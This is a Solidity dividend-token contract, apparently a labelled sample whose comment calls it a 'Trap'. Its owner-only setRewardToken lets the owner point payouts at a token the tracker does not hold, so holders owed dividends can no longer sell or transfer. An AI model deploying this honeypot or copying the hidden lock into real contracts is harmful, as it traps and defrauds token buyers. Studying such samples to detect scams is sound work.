// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {EPair, IEToken} from "./Pair.sol";

contract EDividendTracker {
    uint256 private constant MAGNITUDE = 2 ** 128;
    address private immutable _token;
    address public rewardToken;
    uint256 public magnifiedDividendPerShare;
    uint256 public totalShares;
    uint256 public totalDividendsDistributed;
    mapping(address => uint256) public sharesOf;
    mapping(address => int256) private _corrections;
    mapping(address => uint256) public withdrawnDividends;
    mapping(address => bool) public excludedFromDividends;

    modifier onlyToken() {
        require(msg.sender == _token, "Dividend_Tracker: only token");
        _;
    }

    constructor() {
        _token = msg.sender;
        rewardToken = msg.sender;
    }

    function exclude(address account) external onlyToken {
        excludedFromDividends[account] = true;
    }

    function setRewardToken(address reward) external onlyToken {
        rewardToken = reward;
    }

    function distribute(uint256 amount) external onlyToken {
        if (totalShares == 0) return;
        magnifiedDividendPerShare += (amount * MAGNITUDE) / totalShares;
        totalDividendsDistributed += amount;
    }

    function withdrawableDividendOf(address account) public view returns (uint256) {
        int256 all = int256(magnifiedDividendPerShare * sharesOf[account]) + _corrections[account];
        return uint256(all) / MAGNITUDE - withdrawnDividends[account];
    }

    function setBalance(address account, uint256 has) external onlyToken {
        if (excludedFromDividends[account]) return;
        uint256 owed = withdrawableDividendOf(account);
        if (owed > 0) {
            withdrawnDividends[account] += owed;
            require(IEToken(rewardToken).transfer(account, owed), "Dividend_Tracker: payment failed");
            if (rewardToken == _token) has += owed;
        }
        uint256 had = sharesOf[account];
        sharesOf[account] = has;
        totalShares = totalShares + has - had;
        _corrections[account] += int256(magnifiedDividendPerShare * had) - int256(magnifiedDividendPerShare * has);
    }
}

// Trap: the dividend tracker template, which pays what is owed in the middle of a transfer and not in a try. Sprung by: owner.setRewardToken(WETH): the tracker has none, so that whoever is owed a dividend (everybody after the next trade) can no longer sell or send.
contract EDividend is ERC20, Ownable {
    EDividendTracker public immutable dividendTracker;
    address public immutable uniswapV2Pair;
    uint256 public constant rewardsFee = 3;

    constructor() ERC20("Orbit Dividends", "ODIV") Ownable(msg.sender) {
        dividendTracker = new EDividendTracker();
        uniswapV2Pair = EPair.predict(address(this));
        dividendTracker.exclude(address(dividendTracker));
        dividendTracker.exclude(address(this));
        dividendTracker.exclude(uniswapV2Pair);
        dividendTracker.exclude(address(0xdead));
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function setRewardToken(address reward) external onlyOwner {
        dividendTracker.setRewardToken(reward);
    }

    function excludeFromDividends(address account) external onlyOwner {
        dividendTracker.exclude(account);
    }

    function _update(address from, address to, uint256 amount) internal override {
        if (from == address(dividendTracker) || amount == 0) return super._update(from, to, amount);
        uint256 fee;
        if (from == uniswapV2Pair || to == uniswapV2Pair) {
            if (from != owner() && to != owner()) fee = (amount * rewardsFee) / 100;
        }
        if (fee > 0) super._update(from, address(dividendTracker), fee);
        super._update(from, to, amount - fee);
        if (from != address(0)) dividendTracker.setBalance(from, balanceOf(from));
        if (to != address(0)) dividendTracker.setBalance(to, balanceOf(to));
        if (fee > 0) dividendTracker.distribute(fee);
    }
}
